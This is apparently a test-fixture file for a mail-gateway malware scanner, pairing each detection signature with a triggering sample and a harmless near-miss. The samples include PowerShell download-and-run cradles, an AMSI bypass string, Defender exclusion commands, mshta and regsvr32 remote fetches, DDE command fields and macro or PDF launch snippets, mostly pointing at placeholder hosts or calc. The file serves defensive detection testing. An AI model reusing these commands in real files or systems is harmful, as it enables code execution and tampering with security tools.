// For each signature that ships with gw: an object that it is for, and one next to it that it must
// leave alone. Everything is put together here; nothing in this file does harm.

/** An object as the scanner meets it; its type is found in its bytes. */
export interface Sample {
  readonly bytes: Uint8Array;
  readonly name: string;
  /** Type of the object it was taken out of, "" for none. */
  readonly container: string;
}

/** A signature with its two objects. */
export interface Case {
  readonly signature: string;
  readonly hit: Sample;
  readonly miss: Sample;
}

const bytesOf = (text: string) => Buffer.from(text, "latin1");
const wide = (text: string) => Buffer.from(text, "utf16le").toString("latin1");

/** The EICAR test string, put together here so that no file holds it. */
export function eicar(): string {
  return ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"].join("");
}

function of(text: string | Uint8Array, name = "part 2", container = "mail"): Sample {
  return { bytes: typeof text === "string" ? bytesOf(text) : text, name, container };
}

/** A field of zeros with texts in it. */
function sparse(size: number, ...parts: readonly (readonly [number, string])[]): Buffer {
  const bytes = Buffer.alloc(size);
  for (const [at, text] of parts) bytes.write(text, at, "latin1");
  return bytes;
}

const program = (extra = "") =>
  sparse(1024, [0, "MZ"], [0x3c, "\x80"], [0x80, "PE\0\0"], [0x100, extra]);
const link = (text: string) =>
  bytesOf(`L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46${"\0".repeat(56)}${text}\0\0`);
const image = (text: string) => sparse(40_960, [32_769, "CD001"], [36_000, text]);
const disk = (text: string) => bytesOf(`vhdxfile${"\0".repeat(600)}${text}\0\0`);
const ole = (...texts: readonly string[]) =>
  bytesOf(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${"\0".repeat(504)}${texts.join("\0\0")}\0`);
const note = (text: string) =>
  bytesOf(
    "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3\0\0\0\0" +
      `\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac${text}`,
  );
const page = (body: string) => `<html><body><script>${body}</script></body></html>`;
const rtf = (body: string) => `{\\rtf1\\ansi ${body}}`;
const rels = (kind: string, target: string, mode = "External") =>
  `<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="r1" ` +
  `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" ` +
  `Target="${target}" TargetMode="${mode}"/></Relationships>`;
const field = (code: string) =>
  `<?xml version="1.0"?><w:document xmlns:w="x"><w:instrText>${code}</w:instrText></w:document>`;
const pdf = (body: string) => `%PDF-1.7\n1 0 obj\n<< ${body} >>\nendobj\n`;
const does = (...lines: readonly string[]) =>
  of(`PDF actions\n${lines.join("\n")}\n`, "actions", "pdf");
const script = (text: string) => of(text, "javascript 1", "pdf");
const zipMember = (name: string) =>
  Buffer.concat([
    sparse(30, [0, "PK\x03\x04\x14"], [26, "\x20"]),
    Buffer.from(`${name}data`, "utf8"),
  ]);

const shell = 'var s = new ActiveXObject("WScript.Shell");';
const mail = (header: string) =>
  `From: a@example.org\r\nTo: b@example.org\r\n${header}\r\n\r\nhi\r\n`;

type Row = readonly [signature: string, hit: Sample, miss: Sample];

const names: readonly Row[] = [
  ["Gw.Test.EICAR", of(`${eicar()}\r\n \x1a`), of(`${eicar()}and more`)],
  ["Gw.Test.EICAR", of(eicar()), of(eicar().slice(0, -1))],
  [
    "Gw.Test.EICAR.Inline",
    of(`Dear all,\r\n${eicar()}\r\nregards`),
    of(`the EICAR-STANDARD-ANTIVIRUS-TEST-FILE string begins X5O!P and ends so: ${eicar()}`),
  ],
  [
    "Gw.Test.EICAR.Inline",
    of(`${eicar()}\r\nis what we send to try out whether a scanner is awake at all`),
    of("EICAR-STANDARD-ANTIVIRUS\n"),
  ],
  ["Gw.Disguise.DoubleExtension", of(program(), "Invoice.PDF.exe"), of(program(), "setup.v2.exe")],
  ["Gw.Disguise.DoubleExtension", of("x", "a.jpg.scr", "zip"), of("x", "a.exe.pdf", "zip")],
  ["Gw.Disguise.PaddedExtension", of("x", "a.pdf            .scr"), of("x", "a b  c d.scr")],
  ["Gw.Disguise.ConflictingNames", of("x", "a.pdf | a.exe"), of("x", "Ubung.exe | Übung.exe")],
  ["Gw.Disguise.ProgramAsDocument", of(program(), "photo.jpg"), of("MZ, he said", "photo.jpg")],
  ["Gw.Disguise.ScriptAsDocument", of("@echo off\r\ncls", "cv.doc"), of("@echo off", "cv.bat")],
  [
    "Gw.Disguise.RightToLeftOverride",
    of(mail("Content-Disposition: attachment; filename*=utf-8''inv%E2%80%AEfdp.exe"), "", ""),
    of(mail("Content-Disposition: attachment; filename*=utf-8''inv%E2%80%9Cfdp.exe"), "", ""),
  ],
  [
    "Gw.Disguise.RightToLeftOverride",
    of(mail('Content-Type: a/b; name="x"; filename="inv\xe2\x80\xaefdp.exe"'), "", ""),
    of(`${mail("Subject: y")}the character \xe2\x80\xae turns writing round`, "", ""),
  ],
  [
    "Gw.Disguise.RightToLeftMember",
    of(zipMember("inv\u202efdp.exe"), "a.zip"),
    of(zipMember("inv\u2019s.exe"), "a.zip"),
  ],
];

const scripts: readonly Row[] = [
  ["Gw.Script.Encoded", of("#@~^AAAAAA==x==^#~@", "a.jse"), of("see #@~^ there", "a.txt")],
  [
    "Gw.Script.EncodedInPage",
    of('<html><script language="JScript.Encode">#@~^AA==x==^#~@'),
    of('<html><script language="JScript">#@~^AA=='),
  ],
  ["Gw.Script.ShellObject", of(`${shell}s.Run("calc");`, "a.js"), of(`${shell}s.Run("calc");`)],
  [
    "Gw.Script.Downloader",
    of('x = CreateObject("MSXML2.XMLHTTP"): y = CreateObject("ADODB.Stream")', "a.vbs"),
    of('x = new ActiveXObject("Microsoft.XMLHTTP"); x.open("GET", "/api");', "site.js"),
  ],
  [
    "Gw.Script.PowerShellEncoded",
    of("start PowerShell -w hidden -EncodedCommand JABzAD0A", "a.bat"),
    of("start PowerShell -File build.ps1", "a.bat"),
  ],
  [
    "Gw.Script.PowerShellDownload",
    of("IEX (New-Object Net.WebClient).DownloadString('http://x/')", "a.ps1"),
    of("Use IEX (New-Object Net.WebClient).DownloadString('http://x/') with care."),
  ],
  [
    "Gw.Script.PowerShellLoader",
    of("[Reflection.Assembly]::Load([Convert]::FromBase64String($x))", "a.ps1"),
    of("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x))", "a.ps1"),
  ],
  [
    "Gw.Script.AmsiBypass",
    of("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils') amsiInitFailed", "a.ps1"),
    of("how AmsiUtils and amsiInitFailed are abused"),
  ],
  [
    "Gw.Script.DefenderTampering",
    of("powershell Add-MpPreference -ExclusionPath C:\\", "a.cmd"),
    of("powershell Get-MpPreference", "a.cmd"),
  ],
  [
    "Gw.Script.CertutilDecode",
    of("@echo off\r\ncertutil -f -decode a.txt a.exe"),
    of("@echo off\r\ncertutil -hashfile a.txt"),
  ],
  [
    "Gw.Script.MshtaRemote",
    of("@echo off\r\nmshta http://example.org/a"),
    of("@echo off\r\nrem mshta is blocked here"),
  ],
  [
    "Gw.Script.Bitsadmin",
    of("bitsadmin /transfer j http://x/a c:\\a", "a.bat"),
    of("bitsadmin /list", "a.bat"),
  ],
  [
    "Gw.Script.Regsvr32Remote",
    of("regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "a.bat"),
    of("regsvr32 /s mycontrol.ocx", "a.bat"),
  ],
  [
    "Gw.Script.RundllJavascript",
    of('rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "', "a.cmd"),
    of("rundll32 shell32.dll,Control_RunDLL", "a.cmd"),
  ],
  [
    "Gw.Script.VbsCharacters",
    of(`ExecuteGlobal ${"Chr(65)&".repeat(33)}""`, "a.vbs"),
    of(`ExecuteGlobal ${"Chr(65)&".repeat(30)}""`, "a.vbs"),
  ],
  [
    "Gw.Script.JsObfuscated",
    of('x=eval(String.fromCharCode(1)); new ActiveXObject("WScript.x")', "a.js"),
    of('x=eval(String.fromCharCode(1)); new ActiveXObject("Microsoft.XMLHTTP")', "jquery.js"),
  ],
  [
    "Gw.Script.HtmlApplication",
    of("<html><head><HTA:APPLICATION id=a><script>x</script>"),
    of(page("x"), "a.html"),
  ],
  [
    "Gw.Script.WindowsScriptFile",
    of('<job><script language="VBScript">CreateObject("a")</script></job>'),
    of("<job><runtime/></job>"),
  ],
  [
    "Gw.Script.RegistryAutorun",
    of(`Windows Registry Editor Version 5.00\r\n[HKCU\\x\\CurrentVersion\\Run]\r\n"a"="mshta b"`),
    of("Windows Registry Editor Version 5.00\r\n[HKCU\\x\\CurrentVersion\\Themes]\r\n"),
  ],
  [
    "Gw.Script.RegistryAutorun",
    of(
      Buffer.from(
        "\ufeffWindows Registry Editor Version 5.00\r\nCurrentVersion\\Run mshta".replace(
          "Current",
          "\\Current",
        ),
        "utf16le",
      ),
    ),
    of(
      Buffer.from(
        "\ufeffWindows Registry Editor Version 5.00\r\n\\CurrentVersion\\Run a",
        "utf16le",
      ),
    ),
  ],
];

const shortcuts: readonly Row[] = [
  ["Gw.Shortcut.PowerShell", of(link(wide("C:\\PowerShell.exe"))), of(link(wide("notepad")))],
  ["Gw.Shortcut.Mshta", of(link("C:\\mshta.exe")), of(link("C:\\Windows\\write.exe"))],
  [
    "Gw.Shortcut.CommandLine",
    of(link(`C:\\Windows\\cmd.exe${wide("/c start a")}`)),
    of(link(`C:\\Windows\\cmd.exe${wide("C:\\Users\\a")}`)),
  ],
  ["Gw.Shortcut.ScriptEngine", of(link("C:\\WScript.exe")), of(link("C:\\winword.exe"))],
  ["Gw.Shortcut.PaddedArguments", of(link(wide(" ".repeat(60)))), of(link(wide(" ".repeat(30))))],
  [
    "Gw.Shortcut.RemoteTarget",
    of(link(wide("\\\\x.example@SSL\\DavWWWRoot\\a.exe")), "a.lnk", "zip"),
    of(link(wide("\\\\server\\share\\a.docx")), "a.lnk", "zip"),
  ],
  [
    "Gw.Shortcut.PowerShell",
    of("command: /c powershell -c x\n", "shortcut", "lnk"),
    of("command: /c powershell -c x\n", "shortcut", "zip"),
  ],
  [
    "Gw.Shortcut.Mshta",
    of("arguments: mshta x\n", "shortcut", "lnk"),
    of("mshta x\n", "a.txt", "mail"),
  ],
  [
    "Gw.Shortcut.PaddedCommand",
    of("padding: the arguments hold 300 blanks in a row\n", "shortcut", "lnk"),
    of("padding: the arguments hold 300 blanks in a row\n", "a.txt", "mail"),
  ],
  [
    "Gw.Shortcut.UrlRemoteFile",
    of("url: file://198.51.100.7/a/b.zip\n", "shortcut", "url"),
    of("url: file:///C:/a/b.zip\n", "shortcut", "url"),
  ],
  [
    "Gw.Shortcut.UrlToProgram",
    of("url: http://x.example/a.exe\n", "shortcut", "url"),
    of("url: http://x.example/a.exe\n", "a.txt", "mail"),
  ],
  ["Gw.Shortcut.Mailed", of(link("x"), "a.lnk", "iso9660"), of(link("x"), "a.lnk", "zip")],
  [
    "Gw.Shortcut.UrlRemoteFile",
    of("[InternetShortcut]\r\nURL=file://198.51.100.7/a/b.zip\r\n"),
    of("[InternetShortcut]\r\nURL=file:///C:/Users/a.html\r\n"),
  ],
  [
    "Gw.Shortcut.UrlRemoteIcon",
    of("[InternetShortcut]\r\nURL=http://x/\r\nIconFile=\\\\198.51.100.7\\a.ico\r\n"),
    of("[InternetShortcut]\r\nURL=http://x/\r\nIconFile=C:\\a.ico\r\n"),
  ],
  [
    "Gw.Shortcut.UrlToProgram",
    of("[InternetShortcut]\r\nURL=https://x.example/a.hta\r\n"),
    of("[InternetShortcut]\r\nURL=https://x.example/a.html\r\nIconFile=a.exe,0\r\n"),
  ],
  [
    "Gw.Shortcut.RemoteDesktop",
    of("full address:s:x.example\r\ndrivestoredirect:s:*\r\n", "a.rdp"),
    of("full address:s:x.example\r\ndrivestoredirect:s:\r\n", "a.rdp"),
  ],
  [
    "Gw.Shortcut.RemoteLibrary",
    of('<?xml version="1.0"?><libraryDescription><url>\\\\198.51.100.7\\a</url>'),
    of('<?xml version="1.0"?><libraryDescription><url>knownfolder:{x}</url>'),
  ],
  [
    "Gw.Shortcut.SettingContent",
    of('<?xml version="1.0"?><DeepLink>cmd.exe /c calc</DeepLink>', "a.settingcontent-ms"),
    of('<?xml version="1.0"?><DeepLink>cmd.exe /c calc</DeepLink>', "a.xml"),
  ],
  ["Gw.DiskImage.Shortcut", of(image("INVOICE.LNK;1")), of(image("README.TXT;1"))],
  ["Gw.DiskImage.Shortcut", of(image(wide("invoice.js;1"))), of(image(wide("report.json;1")))],
  ["Gw.DiskImage.HardDisk", of(disk(wide(" invoice.lnk "))), of(disk(wide(" invoice.lnnk ")))],
  ["Gw.DiskImage.Member", of(link(""), "a.LNK", "vhd"), of(link(""), "a.LNK", "zip")],
  [
    "Gw.DiskImage.Program",
    of(image("A.EXE;1 This program cannot be run in DOS mode")),
    of(image("A.TXT;1 This program cannot be run in DOS mode")),
  ],
  ["Gw.DiskImage.Mailed", of(image("A.TXT;1")), of(image("A.TXT;1"), "a.iso", "")],
];

const pages: readonly Row[] = [
  [
    "Gw.Html.Smuggling",
    of(page("b=new Blob([window.atob(d)]);a.href=URL.createObjectURL(b);a.download='x';a.click()")),
    of(page("b=new Blob([text]);a.href=URL.createObjectURL(b);a.click()")),
  ],
  [
    "Gw.Html.SmugglingAnchor",
    of('<html><a download="a.zip" href="data:application/zip;base64,UEsDB">open</a>'),
    of('<html><img src="data:image/png;base64,iVBORw0KGgo"><a download href="a.zip">'),
  ],
  [
    "Gw.Html.BuiltProgram",
    of(program(), "decoded string", "html"),
    of(program(), "decoded string", "zip"),
  ],
  ["Gw.Html.EmbeddedProgram", of(page("x='TVqQAAMAAAAEAAAA//8'")), of(page("x='TVqQ'"))],
  [
    "Gw.Html.SvgScript",
    of("<svg xmlns='x'><script>window.location='//x'</script></svg>"),
    of("<svg xmlns='x'><script>blink()</script></svg>"),
  ],
  ["Gw.Html.EncodedPage", of(page('document.write(unescape("%3C"))')), of(page("unescape('%3C')"))],
  [
    "Gw.Html.SearchHandler",
    of(page("location='search-ms:query=a&crumb=location:\\\\x'")),
    of(page("location='search-ms:query=a'")),
  ],
  [
    "Gw.Html.DiagnosticTool",
    of(page("location.href='ms-msdt:/id PCW /param IT_BrowseForFile=x'")),
    of("<html><p>how ms-msdt: and IT_BrowseForFile are abused</p>"),
  ],
];

const VBA = 'Attribute VB_Name = "a"\r\n';

const macros: readonly Row[] = [
  ["Gw.Macro.AutoShell", of(ole("Document_Open", "WScript.Shell")), of(ole("WScript.Shell"))],
  [
    "Gw.Macro.AutoShell",
    of('Sub AutoOpen()\r\nCreateObject("Shell.Application")', "NewMacros", "ole2"),
    of("Sub AutoOpen() and Shell.Application are what to look for"),
  ],
  ["Gw.Macro.AutoDownload", of(ole("Workbook_Open", "URLDownloadToFileA")), of(ole("AutoOpen"))],
  [
    "Gw.Macro.Shellcode",
    of(ole(wide("_VBA_PROJECT"), "VirtualAlloc", "RtlMoveMemory", "CreateThread")),
    of(ole(wide("_VBA_PROJECT"), "RtlMoveMemory", "SetTimer")),
  ],
  [
    "Gw.Macro.SourceRunsProgram",
    of(`${VBA}Sub AutoOpen()\r\nx = Shell("calc", 0)\r\n`, "vba/a.bas", "ole2"),
    of(`${VBA}Sub Start()\r\nx = Shell("calc", 0)\r\n`, "vba/a.bas", "ole2"),
  ],
  [
    "Gw.Macro.SourceHidesObject",
    of(`${VBA}Sub AutoOpen()\r\nCreateObject(StrReverse("a"))`, "vba/a.bas", "ole2"),
    of(`${VBA}Sub AutoOpen()\r\nCreateObject(Chr(65))`, "vba/a.bas", "ole2"),
  ],
  [
    "Gw.Macro.SourceAutostart",
    of(`${VBA}a.RegWrite "HKCU\\x\\CurrentVersion\\Run\\b"`, "vba/a.bas", "ole2"),
    of(`${VBA}a.RegWrite "HKCU\\x\\CurrentVersion\\Themes"`, "vba/a.bas", "ole2"),
  ],
  [
    "Gw.Macro.SourceSpreads",
    of(`${VBA}NormalTemplate.VBProject.x.CodeModule.AddFromString a`, "vba/a.bas", "ole2"),
    of(`${VBA}NormalTemplate.Saved = True`, "vba/a.bas", "ole2"),
  ],
  [
    "Gw.Macro.SourceDisablesWarnings",
    of(`${VBA}Options.VirusProtection = False`, "vba/a.bas", "ole2"),
    of(`${VBA}Options.VirusScanner = False`, "vba/a.bas", "ole2"),
  ],
  [
    "Gw.Macro.Stomped",
    of("Stomped VBA: compiled macros that are not", "vba-stomped", "ole2"),
    of("Stomped VBA: compiled macros that are not", "vba-stomped", "zip"),
  ],
  [
    "Gw.Macro.Excel4Auto",
    of("' Excel 4.0 macro sheet, visible: a\nAuto_Open=A1\nA1=EXEC(", "xlm/a", "ole2"),
    of("' Excel 4.0 macro sheet, visible: a\nAuto_Open=A1\nA1=ALERT(", "xlm/a", "ole2"),
  ],
  [
    "Gw.Macro.Excel4Hidden",
    of("' Excel 4.0 macro sheet, very hidden: a\nAuto_Open=A1\n", "xlm/a", "ole2"),
    of("' Excel 4.0 macro sheet, hidden: a\nAuto_Open=A1\n", "xlm/a", "ole2"),
  ],
  [
    "Gw.Macro.Excel4Download",
    of(ole("URLMON", "URLDownloadToFileA", "JJCCJJ")),
    of(ole("URLMON", "URLDownloadToFileA")),
  ],
  [
    "Gw.Macro.Excel4Sheet",
    of('<?xml version="1.0"?><xm:macrosheet><f>EXEC("calc")</f>'),
    of('<?xml version="1.0"?><xm:macrosheet><f>SUM(A1)</f>'),
  ],
  ["Gw.Macro.ActiveMime", of("ActiveMime\0\0\x01\xf0"), of("ActiveMime is a format")],
  [
    "Gw.Macro.ExcelAddIn",
    of(program("xlAutoOpen"), "a.xll", "zip"),
    of(program("xlAutoOpen"), "a.dll", "zip"),
  ],
  [
    "Gw.Ole.PackagedProgram",
    of(ole(wide("Ole10Native"), "This program cannot be run in DOS mode")),
    of(ole(wide("CompObj"), "This program cannot be run in DOS mode")),
  ],
  [
    "Gw.Ole.PackagedScript",
    of(ole(wide("Ole10Native"), "C:\\invoice.vbs\0\0\0\x03\0")),
    of(ole(wide("Ole10Native"), "C:\\invoice.pdf\0\0\0\x03\0")),
  ],
  ["Gw.OneNote.EmbeddedProgram", of(note(`${"\0".repeat(20)}MZ`)), of(note("\0".repeat(22)))],
  ["Gw.OneNote.EmbeddedScript", of(note(wide("open me.HTA\0"))), of(note(wide("photo.hta.png\0")))],
  ["Gw.Help.Mailed", of("ITSF\x03\0\0\0", "a.chm"), of("ITSF\x03\0\0\0", "a.chm", "")],
];

const exchanges: readonly Row[] = [
  [
    "Gw.Dde.WordField",
    of(field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
    of(field(" HYPERLINK c:\\windows\\system32\\cmd.exe")),
  ],
  ["Gw.Dde.WordBinary", of(ole("\x13 DDEAUTO c:\\cmd.exe")), of(ole("about DDEAUTO fields"))],
  [
    "Gw.Dde.ExcelLink",
    of('<?xml version="1.0"?><externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc">'),
    of('<?xml version="1.0"?><externalLink><ddeLink ddeService="ticker" ddeTopic="a">'),
  ],
  [
    "Gw.Dde.CsvFormula",
    of("name;=cmd|'/C calc'!A0\r\n", "a.csv"),
    of("name;=cmd|'/C calc'!A0\r\n", "advisory"),
  ],
  ["Gw.Dde.SylkMacro", of('ID;P\r\nC;X1;Y1;EEXEC("calc")\r\n'), of("ID;P\r\nC;X1;Y1;K1\r\n")],
  [
    "Gw.Dde.WebQuery",
    of("WEB\r\n1\r\nhttp://example.org/a.dat", "a.iqy"),
    of("WEB\r\n1\r\nhttp://example.org/a.dat", "a.iqy", ""),
  ],
];

const equation = "4571756174696F6E2E33";

const objects = (text: string, container = "rtf") => of(text, "objects", container);

const documents: readonly Row[] = [
  [
    "Gw.Rtf.EquationExploit",
    objects("controls: object objupdate\nclass: Equation.3\n"),
    objects("controls: object\nclass: Equation.3\n"),
  ],
  [
    "Gw.Rtf.PackagedProgram",
    objects("class: Package\npackage: a.js\n"),
    objects("class: Package\npackage: a.json\n"),
  ],
  [
    "Gw.Rtf.RemoteLink",
    objects("controls: object objautlink\ntopic: https://x.example/a\n"),
    objects("controls: object objautlink\ntopic: https://x.example/a\n", "mail"),
  ],
  [
    "Gw.Rtf.RemoteTemplate",
    objects("template: https://x.example/a.dotm\n"),
    objects("template: C:\\a.dotm\n"),
  ],
  [
    "Gw.Rtf.EquationExploit",
    of(rtf(`{\\object\\objemb\\objupdate{\\*\\objdata 01050000${equation}00}}`)),
    of(rtf(`{\\object\\objemb{\\*\\objdata 01050000${equation}00}}`)),
  ],
  [
    "Gw.Rtf.SelfUpdating",
    of(rtf("{\\object\\objupdate{\\*\\objdata 0105}}")),
    of(rtf("{\\object{\\*\\objdata 0105}}")),
  ],
  [
    "Gw.Rtf.BinaryObject",
    of(rtf("{\\*\\objdata 01\\bin0 05}")),
    of(rtf(`{\\*\\objdata 0105}${" ".repeat(300)}{\\pict\\bin20 x}`)),
  ],
  [
    "Gw.Rtf.BrokenHeader",
    of("{\\rt{\\object{\\*\\objdata 0105}}}"),
    of(rtf("{\\object{\\*\\objdata 0105}}")),
  ],
  [
    "Gw.Rtf.PackagedProgram",
    of(rtf("{\\*\\objdata 5061636b616765006131002e65786500}")),
    of(rtf("{\\*\\objdata 5061636b616765006131002e70646600}")),
  ],
  [
    "Gw.Rtf.RemoteLink",
    of(rtf("{\\object\\objautlink{\\*\\objdata E0C9EA79F9BACE118C8200AA004BA90B}}")),
    of(rtf("{\\object\\objemb{\\*\\objdata E0C9EA79F9BACE118C8200AA004BA90B}}")),
  ],
  [
    "Gw.Rtf.RemoteTemplate",
    of(rtf("{\\*\\template http://x.example/a.dotm}")),
    of(rtf("{\\*\\template C:\\\\Templates\\\\a.dotm}")),
  ],
  [
    "Gw.Template.Remote",
    of(rels("attachedTemplate", "https://x.example/a.dotm")),
    of(rels("attachedTemplate", "file:///C:\\Templates\\a.dotm")),
  ],
  [
    "Gw.Template.RemoteObject",
    of(rels("oleObject", "https://x.example/a.html!")),
    of(rels("hyperlink", "https://x.example/a.html")),
  ],
  [
    "Gw.Template.RemoteFrame",
    of(rels("frame", "https://x.example/a.html")),
    of(rels("frame", "a.html", "Internal")),
  ],
  [
    "Gw.Template.MhtmlExploit",
    of(rels("oleObject", "mhtml:http://x.example/a.html!x-usc:http://x.example/a.html")),
    of(rels("oleObject", "mhtml:http://x.example/a.html")),
  ],
  [
    "Gw.Pdf.LaunchCommand",
    of(pdf("/S /Launch /Win << /F (cmd.exe) >>")),
    of(pdf("/S /URI /URI (http://x/cmd.exe)")),
  ],
  [
    "Gw.Pdf.ExportAndRun",
    of(pdf("/JS (this.exportDataObject({ cName: 'a', nLaunch: 2 });)")),
    of(pdf("/JS (this.exportDataObject({ cName: 'a', nLaunch: 0 });)")),
  ],
  [
    "Gw.Pdf.EmbeddedProgram",
    of(pdf("/Type /EmbeddedFile /F (invoice.js)")),
    of(pdf("/Type /EmbeddedFile /F (invoice.json)")),
  ],
  ["Gw.Pdf.EmbeddedProgram", of(program(), "stream 5", "pdf"), of(program(), "a.bin", "zip")],
  ["Gw.Pdf.LaunchCommand", does("Launch cmd.exe /c calc"), does("URI http://x/cmd.exe")],
  ["Gw.Pdf.LaunchCommand", does("Launch \\\\x.example\\a"), does("Launch manual.pdf")],
  ["Gw.Pdf.OpenLaunch", does("OpenAction Launch"), does("AA D JavaScript", "Launch a.pdf")],
  ["Gw.Pdf.EmbeddedMacroDocument", of("x", "a.docm", "pdf"), of("x", "a.docx", "pdf")],
  ["Gw.Pdf.EmbeddedMacroDocument", of("x", "b | b.xlsm", "pdf"), of("x", "b.xlsm", "zip")],
  [
    "Gw.Pdf.HiddenCode",
    script("var s = this.info.title; eval(s);"),
    script('event.rc = !/^[0-9]+$/.test(event.value); AFNumber_Keystroke(2, 0, "x");'),
  ],
  [
    "Gw.Pdf.HiddenCode",
    script(`${"ev"}al(String.fromCharCode(97, 108))`),
    of(`${"ev"}al(String.fromCharCode(97, 108))`, "page.js", "zip"),
  ],
  [
    "Gw.Pdf.Shellcode",
    script(`var a = unescape("${"%u4141".repeat(9)}");`),
    script('var a = unescape("a%20b");'),
  ],
  [
    "Gw.Pdf.ReaderExploit",
    script("this.media.newPlayer(null);"),
    script("app.alert(util.printf('%d', 3)); this.print(true);"),
  ],
  ["Gw.Pdf.HiddenByPictureFilter", does("HiddenByPictureFilter DCTDecode"), does("XFA")],
  ["Gw.Pdf.RemoteFile", does("GoToR \\\\192.0.2.1\\a"), does("GoToR chapter2.pdf")],
  ["Gw.Pdf.OpenScript", does("OpenAction JavaScript"), does("AA K JavaScript")],
];

/** All cases; every signature that ships has at least one. */
export const CASES: readonly Case[] = [
  ...[names, scripts, shortcuts, pages],
  ...[macros, exchanges, documents],
].flatMap((rows) => rows.map(([signature, hit, miss]) => ({ signature, hit, miss })));
